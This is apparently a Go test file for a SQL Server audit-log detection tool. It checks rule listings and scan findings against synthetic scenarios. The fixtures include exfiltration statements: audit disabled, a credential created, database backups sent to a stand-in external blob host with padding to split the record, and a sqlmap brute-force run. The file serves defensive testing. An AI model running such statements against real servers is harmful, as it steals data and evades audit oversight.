package detectcmd

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/handler/internal/testsupport"

	"github.com/sethvargo/go-envconfig"

	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/xel/xeltest"
)

var update = flag.Bool("update", false, "rewrite golden files and docs/rules.md")

func TestRulesDoc(t *testing.T) {
	path := filepath.Join("..", "..", "..", "docs", "rules.md")
	want := Markdown()
	if *update {
		if err := os.WriteFile(path, []byte(want), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (regenerate with go test ./handler/internal/detectcmd -run TestRulesDoc -update)", err)
	}
	if string(got) != want {
		t.Errorf("%s is stale: regenerate with go test ./handler/internal/detectcmd -run TestRulesDoc -update", path)
	}
}

func TestRules(t *testing.T) {
	tests := []struct {
		args     []string
		code     int
		contains []string
	}{
		{nil, 0, []string{"EXF-001", "T1537", "BACKUP_RESTORE_GROUP", "AUD-006"}},
		{[]string{"--format", "markdown"}, 0, []string{"| [EXF-002](#exf-002) |", "## AUTH-001"}},
		{[]string{"--format", "json"}, 0, []string{`"id": "EXE-011"`}},
		{[]string{"--format", "xml"}, 2, nil},
		{[]string{"extra"}, 2, nil},
		{[]string{"--help"}, 0, nil},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			var out, errb bytes.Buffer
			if code := Rules(context.Background(), tt.args, nil, nil, &out, &errb); code != tt.code {
				t.Fatalf("code = %d, want %d (stderr %q)", code, tt.code, errb.String())
			}
			for _, s := range tt.contains {
				if !strings.Contains(out.String(), s) {
					t.Errorf("output lacks %q", s)
				}
			}
		})
	}
	var out bytes.Buffer
	Rules(context.Background(), []string{"--format", "json"}, nil, nil, &out, &out)
	var cat []detect.RuleInfo
	if want := len(detect.Catalog()) + len(detect.StorageRules) + len(detect.PlatformCatalog()); json.Unmarshal(out.Bytes(), &cat) != nil || len(cat) != want {
		t.Errorf("json catalog: %d rules; want %d", len(cat), want)
	}
	// The storage rules are listed in every format.
	for _, f := range []string{"table", "markdown", "json"} {
		var out bytes.Buffer
		Rules(context.Background(), []string{"--format", f}, nil, nil, &out, &out)
		for _, id := range []string{"AUD-014", "AUD-015", "AUD-016"} {
			if !strings.Contains(out.String(), id) {
				t.Errorf("rules --format %s lacks %s", f, id)
			}
		}
	}
}

var day = time.Date(2026, 11, 18, 13, 0, 0, 0, time.UTC)

// ev builds an audit event for scenario files.
func ev(min float64, action, class, principal, stmt string) xeltest.AuditEvent {
	return xeltest.AuditEvent{
		EventTime:                  day.Add(time.Duration(min * float64(time.Minute))),
		ActionID:                   action,
		ClassType:                  class,
		Succeeded:                  true,
		SessionID:                  61,
		ServerPrincipalName:        principal,
		SessionServerPrincipalName: principal,
		ServerInstanceName:         "sql01",
		DatabaseName:               "Sales",
		Statement:                  stmt,
		ClientIP:                   "10.20.0.15",
		ApplicationName:            "Microsoft SQL Server Management Studio - Query",
		HostName:                   "WS-ALICE",
	}
}

// scenarios are the files written for the end-to-end scan, by path
// relative to the scanned folder.
func scenarios() map[string][]xeltest.AuditEvent {
	failIP := func(e xeltest.AuditEvent, i int) xeltest.AuditEvent {
		e.ClientIP = "203.0.113.77"
		e.ApplicationName = "sqlmap/1.8"
		e.Succeeded = false
		e.EventTime = e.EventTime.Add(time.Duration(i) * 15 * time.Second)
		return e
	}
	var brute []xeltest.AuditEvent
	for i := range 9 {
		brute = append(brute, failIP(ev(0, "LGIF", "LX", "sa", ""), i))
	}
	ok := ev(3, "LGIS", "LX", "sa", "")
	ok.ClientIP = "203.0.113.77"
	ok.ApplicationName = "sqlmap/1.8"
	brute = append(brute, ok)

	long := "/* " + strings.Repeat("padding so that SQL Server splits the record ", 120) + " */ BACKUP DATABASE [Sales] TO URL = N'https://exfil.blob.core.windows.net/x/sales.bak' WITH COPY_ONLY"
	return map[string][]xeltest.AuditEvent{
		// The seed story: audit off, credential, COPY_ONLY backup to a
		// foreign account, audit back on.
		"sql01/master/Main/2026-11-18/13_00_00_000_0.xel": {
			ev(10, "LGIS", "LX", `CONTOSO\mallory`, ""),
			ev(11, "AL", "A", `CONTOSO\mallory`, "ALTER SERVER AUDIT [Main] WITH (STATE = OFF)"),
			ev(12, "CR", "CD", `CONTOSO\mallory`, "CREATE CREDENTIAL [https://exfil.blob.core.windows.net/x] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'sv=2022-11-02&sig=SECRETSIG'"),
		},
		"sql01/master/Main/2026-11-18/13_20_00_000_0.xel": {
			ev(13, "BA", "DB", `CONTOSO\mallory`, "BACKUP DATABASE [Sales] TO URL = N'https://exfil.blob.core.windows.net/x/sales.bak' WITH COPY_ONLY, COMPRESSION"),
			ev(14, "AUSC", "A", `CONTOSO\mallory`, ""),
			ev(15, "BA", "DB", `CONTOSO\mallory`, long),
		},
		// Authentication attack from a public address with an attack tool.
		"sql01/master/Main/2026-11-18/14_00_00_000_0.xel": brute,
		// Routine traffic: nothing to report.
		"sql02/Sales/Main/2026-11-18/13_00_00_000_0.xel": {
			ev(1, "BCM", "", "app_orders", "SELECT TOP 10 * FROM dbo.Orders ORDER BY Created DESC"),
			ev(2, "DBAS", "DB", "app_orders", ""),
			ev(3, "BCM", "", `CONTOSO\alice`, "EXEC sp_configure 'max degree of parallelism', 4"),
		},
	}
}

func writeScenarios(t *testing.T, dir string) {
	t.Helper()
	for name, evs := range scenarios() {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		w, err := xeltest.NewWriter(&buf, nil)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range evs {
			if err := w.WriteAudit(e); err != nil {
				t.Fatalf("%s: WriteAudit: %v", name, err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

var scanEnv = map[string]string{
	"XELWATCH_ALLOWED_BACKUP_DESTINATIONS": "https://backupacct.blob.core.windows.net/sql/",
	"XELWATCH_ALLOWED_PRINCIPALS":          `CONTOSO\svc-backup`,
}

func TestScanGolden(t *testing.T) {
	dir := t.TempDir()
	writeScenarios(t, dir)
	for _, format := range []string{"jsonl", "table"} {
		t.Run(format, func(t *testing.T) {
			var out, errb bytes.Buffer
			code := scan(context.Background(), []string{"--format", format, dir}, &out, &errb, envconfig.MapLookuper(scanEnv))
			if code != 0 {
				t.Fatalf("scan = %d, stderr:\n%s", code, errb.String())
			}
			golden := filepath.Join("testdata", "scenarios."+format+".golden")
			if *update {
				if err := os.WriteFile(golden, out.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (create with -update)", err)
			}
			if got := out.String(); got != string(want) {
				t.Errorf("scan output differs from %s (rerun with -update after checking):\n%s", golden, got)
			}
		})
	}
}

func TestScanFindings(t *testing.T) {
	dir := t.TempDir()
	writeScenarios(t, dir)
	var out, errb bytes.Buffer
	if code := scan(context.Background(), []string{dir}, &out, &errb, envconfig.MapLookuper(scanEnv)); code != 0 {
		t.Fatalf("scan = %d, stderr:\n%s", code, errb.String())
	}
	count := map[string]int{}
	for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		var f struct {
			Rule        string            `json:"rule"`
			Severity    string            `json:"severity"`
			Title       string            `json:"title"`
			DetectionID string            `json:"detection_id"`
			Records     []detect.Evidence `json:"records"`
			Why         string            `json:"why"`
		}
		if err := json.Unmarshal([]byte(line), &f); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		if f.Rule == "" || f.Severity == "" || f.Title == "" || len(f.DetectionID) != 32 || len(f.Records) == 0 {
			t.Errorf("incomplete finding: %s", line)
		}
		if strings.Contains(line, "SECRETSIG") {
			t.Errorf("finding leaks the SAS secret: %s", line)
		}
		if f.Records[len(f.Records)-1].FileName == "" || strings.HasPrefix(f.Records[0].FileName, "/") {
			t.Errorf("records must carry the relative file name: %+v", f.Records[0])
		}
		count[f.Rule+"/"+f.Severity]++
		if f.Rule == "EXF-001" && strings.Contains(f.Records[0].Statement, "padding") && !strings.Contains(f.Why, "exfil.blob.core.windows.net") {
			t.Errorf("split statement: destination not found after reassembly: %s", f.Why)
		}
	}
	for _, want := range []string{"AUD-001/critical", "EXF-005/medium", "EXF-005/high", "AUD-006/critical", "EXF-001/high", "EXF-002/high", "AUTH-001/medium", "AUTH-003/high", "AUTH-004/medium", "AUTH-006/high"} {
		if count[want] == 0 {
			t.Errorf("no %s finding; got %v", want, count)
		}
	}
	if got := count["EXF-001/high"]; got != 2 {
		t.Errorf("EXF-001 findings = %d, want 2 (short and split backup statements)", got)
	}
}

func TestScanErrors(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.xel")
	if err := os.WriteFile(bad, []byte("not an xel file at all"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		args []string
		env  map[string]string
		code int
		errs string
	}{
		{"no paths", nil, nil, 2, "usage"},
		{"bad format", []string{"--format", "csv", dir}, nil, 2, "unknown --format"},
		{"missing path", []string{filepath.Join(dir, "nope")}, nil, 1, "no such file"},
		{"corrupt file", []string{bad}, nil, 1, "bad.xel"},
		{"bad config", []string{dir}, map[string]string{"XELWATCH_ALLOWED_CLIENT_IPS": "x/99"}, 2, "XELWATCH_ALLOWED_CLIENT_IPS"},
		{"missing rules file", []string{"--rules-file", filepath.Join(dir, "r.json"), dir}, nil, 2, "XELWATCH_RULES_FILE"},
		{"help", []string{"--help"}, nil, 0, "usage"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out, errb bytes.Buffer
			code := scan(context.Background(), tt.args, &out, &errb, envconfig.MapLookuper(tt.env))
			if code != tt.code || !strings.Contains(errb.String(), tt.errs) {
				t.Errorf("code = %d, stderr %q; want %d and %q", code, errb.String(), tt.code, tt.errs)
			}
		})
	}
}

// TestScanHostileFolder: a FIFO named like an audit file (which used to
// block the scan in open), dangling and looping links are reported, not
// opened; a damaged file is reported with its offset; the other files
// are scanned as if those were absent, and the exit status is 1.
func TestScanHostileFolder(t *testing.T) {
	dir := t.TempDir()
	writeScenarios(t, dir)
	first := filepath.Join(dir, filepath.FromSlash("sql01/master/Main/2026-11-18/13_00_00_000_0.xel"))
	b, err := os.ReadFile(first)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "a.xel"), b[:4], 0o644); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "sql01", "pipe.xel"), 0o644); err != nil {
		t.Fatal(err)
	}
	for link, target := range map[string]string{"dangling.xel": "gone.xel", "loop.sqlaudit": "loop.sqlaudit", "pipelink.xel": "sql01/pipe.xel"} {
		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	var out, errb bytes.Buffer
	var code int
	testsupport.NoHang(t, func() { code = scan(context.Background(), []string{dir}, &out, &errb, envconfig.MapLookuper(scanEnv)) })
	if code != 1 {
		t.Errorf("exit %d, want 1", code)
	}
	want, err := os.ReadFile(filepath.Join("testdata", "scenarios.jsonl.golden"))
	if err != nil {
		t.Fatal(err)
	}
	if out.String() != string(want) {
		t.Errorf("findings differ from the clean folder's:\n%s", out.String())
	}
	p := func(n string) string { return "scan: " + filepath.Join(dir, filepath.FromSlash(n)) + ": " }
	wantErr := strings.Join([]string{
		p("dangling.xel") + "skipped: dangling symbolic link",
		p("loop.sqlaudit") + "skipped: symbolic link loop",
		p("pipelink.xel") + "skipped: FIFO (not a regular file)",
		p("sql01/pipe.xel") + "skipped: FIFO (not a regular file)",
		p("a.xel") + "xel: file header cut short at offset 4",
	}, "\n") + "\n"
	if errb.String() != wantErr {
		t.Errorf("stderr\n%s\nwant\n%s", errb.String(), wantErr)
	}
	// Named on the command line, a FIFO is refused, not opened.
	testsupport.NoHang(t, func() {
		fifo := filepath.Join(dir, "sql01", "pipe.xel")
		errb.Reset()
		code := scan(context.Background(), []string{fifo}, &out, &errb, envconfig.MapLookuper(scanEnv))
		if code != 1 || errb.String() != "scan: "+fifo+": skipped: FIFO (not a regular file)\n" {
			t.Errorf("FIFO argument: exit %d, stderr %q", code, errb.String())
		}
	})
}

func TestScanCanceled(t *testing.T) {
	dir := t.TempDir()
	writeScenarios(t, dir)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var out, errb bytes.Buffer
	code := scan(ctx, []string{dir}, &out, &errb, envconfig.MapLookuper(scanEnv))
	if code != 1 || errb.String() != "scan: interrupted: context canceled\n" || out.Len() != 0 {
		t.Errorf("exit %d, stdout %q, stderr %q; want 1, nothing, one interrupted line", code, out.String(), errb.String())
	}
}

func ExampleRules() {
	var out bytes.Buffer
	Rules(context.Background(), []string{"--format", "json"}, nil, nil, &out, os.Stderr)
	var cat []detect.RuleInfo
	_ = json.Unmarshal(out.Bytes(), &cat)
	fmt.Println(cat[0].ID, cat[0].Severity, cat[0].Technique, cat[0].Groups)
	// Output: EXF-001 high T1537 [BACKUP_RESTORE_GROUP]
}
